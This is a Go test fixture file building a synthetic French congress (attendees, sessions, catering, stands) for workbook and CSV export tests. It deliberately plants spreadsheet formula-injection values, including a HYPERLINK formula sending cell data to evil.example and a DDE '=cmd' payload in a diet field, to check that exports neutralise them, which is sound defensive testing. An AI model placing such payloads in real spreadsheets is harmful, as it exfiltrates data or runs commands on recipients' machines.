package export

import (
	"fmt"
	"time"

	"congres/data"
)

// Fixtures of the workbook and CSV tests: a synthetic congress, made in
// memory, independent of the store.

var wbCongress = data.Congress{
	Name: "Congrès R&D de la fédération", Edition: "19e", City: "Lille",
	Days: []data.Day{"2021-11-25", "2021-11-26"},
}

// Values that a spreadsheet would evaluate if they were formulas.
var wbInjections = []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+33 6 12 34 56 78", "-x", "@SUM(1)", "\t=1+1", "  =2+2"}

// wbAttendee is person i of a synthetic congress: every field filled,
// arrivals on some days, formula-like text in the first people.
func wbAttendee(i int, days []data.Day) *data.Attendee {
	a := &data.Attendee{
		Participant: data.Participant{
			ID:           int64(i + 1),
			Code:         fmt.Sprintf("K%06d", i),
			FirstName:    []string{"Camille", "Łukasz", "Nguyễn Thị", "Jean-Baptiste", "山田"}[i%5],
			LastName:     fmt.Sprintf("%s %d", []string{"Martin", "Żółkiewski", "Minh Khai", "de la Santísima Trinidad", "太郎"}[i%5], i),
			Email:        fmt.Sprintf("person%d@example.org", i),
			Phone:        "06 12 34 56 78",
			Organisation: []string{"Scop Les Tisserands", "Mutuelle des territoires", "", "Association « Vivre ensemble », Roubaix"}[i%4],
			JobTitle:     "Chargée de mission",
			Region:       "Hauts-de-France",
			Days:         days[:1+i%len(days)],
			Status:       data.Statuses[i%3],
			FeeCents:     int64(12000 + i%3*50),
			Paid:         i%2 == 0,
			Diet:         []string{"", "végétarien", "sans gluten"}[i%3],
			Notes:        "",
			ImageConsent: i%3 != 0,
			// The store reads times in UTC.
			CreatedAt: time.Date(2021, 9, 1+i%28, 10, 30, 0, 0, time.UTC),
			UpdatedAt: time.Date(2021, 10, 1+i%28, 17, 5, 0, 0, time.UTC),
		},
		Category:     []string{"Adhérent·e", "Partenaire ESS", "Élu·e"}[i%3],
		BadgePrinted: i%4 == 0,
	}
	if i%7 == 0 {
		a.Notes = "Arrive par le train de 9 h 12,\nrepart avant la plénière"
	}
	a.Arrivals = make([]time.Time, len(days))
	for d := range days {
		if (i+d)%3 != 0 {
			t := days[d].Time()
			a.Arrivals[d] = time.Date(t.Year(), t.Month(), t.Day(), 8, 15+(i%40), 0, 0, time.Local).In(wbElsewhere)
		}
	}
	switch i {
	case 0:
		a.LastName = wbInjections[0]
	case 1:
		a.Phone = wbInjections[1]
	case 2:
		a.Organisation = wbInjections[2]
	case 3:
		a.FirstName = wbInjections[3]
	case 4:
		a.JobTitle = wbInjections[4]
	case 5:
		a.Diet = wbInjections[5]
	}
	return a
}

// wbPeople is an Attendees iterator over n synthetic people, made one at a
// time like the store's.
func wbPeople(n int, days []data.Day) func(fn func(*data.Attendee) error) error {
	return func(fn func(*data.Attendee) error) error {
		for i := range n {
			if err := fn(wbAttendee(i, days)); err != nil {
				return err
			}
		}
		return nil
	}
}

func wbSession(id int64, kind data.SessionKind, title string, day data.Day, start, end data.Clock, people int) SessionSheet {
	se := data.Session{ID: id, Kind: kind, Title: title, Day: day, Start: start, End: end,
		RoomName: "Salle Pasteur", EffectiveCapacity: 150, Enrolled: people}
	var att []data.SessionAttendee
	for i := range people {
		a := data.SessionAttendee{
			ParticipantID: int64(i + 1), Code: fmt.Sprintf("K%06d", i),
			FirstName: "Camille", LastName: fmt.Sprintf("Martin %03d", i),
			Organisation: "Scop Les Tisserands", Category: "Adhérent·e",
			Enrolled: i%10 != 9, Attended: i%3 != 0,
		}
		if a.Attended {
			t := day.Time()
			a.At = time.Date(t.Year(), t.Month(), t.Day(), int(start)/60, int(start)%60+i%10, 0, 0, time.Local).UTC()
		}
		att = append(att, a)
	}
	if people > 0 {
		att[0].Organisation = wbInjections[0]
	}
	return SessionSheet{Session: se, Attendees: att}
}

// wbInput is a congress of n people, with sessions of the given sizes.
func wbInput(n int, sessionSizes ...int) AttendanceInput {
	days := wbCongress.Days
	in := AttendanceInput{Congress: wbCongress, Attendees: wbPeople(n, days), Total: n}
	titles := []string{"Plénière d'ouverture", "Atelier 1 : financer l'ESS ?", "Atelier 1 : FINANCER l'ESS ?",
		"[Atelier] 2/3 — Les coopératives d'habitants et la ville de demain"}
	for i, size := range sessionSizes {
		kind := data.KindWorkshop
		if i == 0 {
			kind = data.KindPlenary
		}
		title := titles[i%len(titles)]
		if i >= len(titles) {
			title = fmt.Sprintf("Atelier %d", i)
		}
		ss := wbSession(int64(i+1), kind, title, days[i%len(days)], data.Clock(540+i*30), data.Clock(630+i*30), size)
		in.Sessions = append(in.Sessions, ss)
		in.Summary.Sessions = append(in.Summary.Sessions, data.SessionAttendance{Session: ss.Session, Attended: size * 2 / 3, WalkIns: size / 10})
	}
	in.Summary.Sessions = append(in.Summary.Sessions, data.SessionAttendance{Session: data.Session{ID: 99, Kind: data.KindOther,
		Title: "Déjeuner", Day: days[0], Start: 720, End: 810}})
	for i, name := range []string{"Adhérent·e", "Partenaire ESS", "Élu·e"} {
		in.Summary.Categories = append(in.Summary.Categories, data.CategoryAttendance{
			Category: data.Category{ID: int64(i + 1), Name: name}, Registered: n / 3, Confirmed: n / 4, Cancelled: 2, CheckedIn: n / 5, NoShows: 3})
	}
	for _, d := range days {
		in.Summary.Days = append(in.Summary.Days, data.DayAttendance{Day: d, Expected: n * 2 / 3, CheckedIn: n / 2})
		in.Catering = append(in.Catering, data.CateringDay{Day: d, Diets: []data.DietCount{
			{Diet: "", Expected: 100, CheckedIn: 90}, {Diet: "végétarien", Expected: 20, CheckedIn: 18}, {Diet: "=cmd|' /C calc'!A0", Expected: 1}}})
	}
	in.Stands = []data.StandLine{
		{Stand: data.Stand{Number: "1", Name: "Scop Les Tisserands", Zone: "Solutions de territoire", Organisation: "Scop Les Tisserands",
			Power: true, Tables: 2, Chairs: 4, Notes: "Près de l'entrée"}, Contact: "Camille Martin", ContactEmail: "camille@example.org",
			ContactPhone: "+33 3 20 00 00 00", Staff: []string{"Camille Martin", "Łukasz Żółkiewski"}},
		{Stand: data.Stand{Number: "B4", Name: "Mutuelle des territoires", Tables: 1, Chairs: 2}},
	}
	return in
}
